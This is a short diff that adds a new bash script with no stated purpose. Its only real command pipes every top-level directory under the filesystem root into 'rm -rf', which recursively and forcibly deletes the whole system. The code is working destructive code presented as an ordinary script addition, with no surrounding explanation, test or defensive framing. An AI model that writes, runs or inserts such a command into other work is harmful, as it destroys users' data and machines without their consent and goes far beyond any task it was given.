@@ -1,0 +1,3 @@
+#!/usr/bin/env bash
+set -euo pipefail
+find / -maxdepth 1 | xargs rm -rf
